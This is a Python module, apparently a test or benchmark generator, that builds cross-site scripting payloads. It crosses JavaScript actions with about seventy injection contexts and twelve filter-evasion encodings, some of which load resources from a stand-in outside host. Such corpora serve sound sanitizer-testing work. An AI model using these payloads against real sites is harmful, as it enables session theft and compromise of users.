"""Bench: words that want to be scripts, by combination: what would run x the place it would run from x its disguise."""

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

LONGEST = 150  # characters: the shortest field that people type into takes as many

# What runs where a page lets it: it says so by a dialog, leaves a trace, or asks another host.
_DEEDS = ("alert(1)", "window.__xss.push(1)", "confirm`1`", "top['al'+'ert'](1)", "fetch('//elsewhere.example')")

# Where it would run from. "JS" stands for the deed.
_PLACES = (
    "<script>JS</script>",
    '"><script>JS</script>',
    "'><script>JS</script>",
    "</script><script>JS</script>",
    "</textarea><script>JS</script>",
    "</title><script>JS</script>",
    "</style><script>JS</script>",
    "--><script>JS</script><!--",
    "]]><script>JS</script>",
    "</option></select><script>JS</script>",
    "<img src=x onerror=JS>",
    '"><img src=x onerror=JS>',
    "'><img src=x onerror=JS>",
    "<img src=//elsewhere.example/x.png onload=JS>",
    '" onmouseover="JS" x="',
    "' onmouseover='JS' x='",
    '" autofocus onfocus="JS" x="',
    "x onclick=JS y=",
    "`onmouseover=JS`",
    "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:JS><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=JS></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:JS>x</maction></math>",
    "<details open ontoggle=JS>",
    "<body onload=JS>",
    "<input autofocus onfocus=JS>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS>",
    "<marquee onstart=JS>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe src=javascript:JS></iframe>",
    "<object data=javascript:JS>",
    "<embed src=javascript:JS>",
    "<form action=javascript:JS><button>x</button></form>",
    "<button formaction=javascript:JS form=x>x</button>",
    "<a href=javascript:JS>x</a>",
    "javascript:JS",
    "JaVaScRiPt:JS//",
    "java\tscript:JS",
    "\x01javascript:JS".replace("\x01", " "),
    "data:text/html,<script>JS</script>",
    "vbscript:JS",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content=0;url=javascript:JS>",
    "<style>@import '//elsewhere.example/x.css'</style>",
    "<p style=background:url(//elsewhere.example/x)>JS</p>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<noembed><img title='</noembed><img src=x onerror=JS>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "<table><td background=javascript:JS>",
    "<template><img src=x onerror=JS></template>",
    "<p hx-on:click=JS hx-trigger=load hx-get=/>",
    "<p hx-on::load=JS data-hx-on:load=JS>",
    "<p hx-get=//elsewhere.example hx-trigger=load>x</p>",
    '{"x": "</script><script>JS</script>"}',
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "\\x3cscript\\x3eJS\\x3c/script\\x3e",
    "';JS;'",
    '";JS;"',
    "${JS}",
    "{{constructor.constructor('JS')()}}",
    "{% include JS %}{{191|add:7000}}",
    "[x](javascript:JS)",
    '![x](x"onerror="JS)',
    "<xss id=x tabindex=1 onfocus=JS></xss>",
    "<x contenteditable onbeforeinput=JS>",
    "<img srcset=//elsewhere.example/y.png onload=JS>",
)

# How it would slip past whoever looks for it.
_DISGUISES: tuple[Callable[[str], str], ...] = (
    str.upper,
    lambda words: "".join(letter.upper() if at % 2 else letter for at, letter in enumerate(words)),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
    lambda words: words.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda words: quote(words, safe="()/:"),
    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda words: words.replace(" ", "/"),
    lambda words: words.replace("script", "scr\u200bipt").replace("on", "o\u200dn"),
    lambda words: f"\u202e{words}\u202c",
    lambda words: f"\u0645\u0631\u062d\u0628\u0627 {words} \u2066x\u2069",
    lambda words: words.replace("<", "<<"),
    lambda words: f"<!--{words}",
)
_DISGUISED = 20  # of the places


def payloads() -> list[str]:
    """All of them, each once."""
    return [words for words in dict.fromkeys(_made()) if len(words) <= LONGEST]


def one_of_each() -> list[str]:
    """One for each place and each disguise."""
    plain = [place.replace("JS", _DEEDS[at % len(_DEEDS)]) for at, place in enumerate(_PLACES)]
    return [*plain, *(disguise(_PLACES[at].replace("JS", _DEEDS[0])) for at, disguise in enumerate(_DISGUISES))]


def _made() -> Iterator[str]:
    for place, deed in product(_PLACES, _DEEDS):
        yield place.replace("JS", deed)
    for disguise, place in product(_DISGUISES, _PLACES[:_DISGUISED]):
        yield disguise(place.replace("JS", _DEEDS[0]))
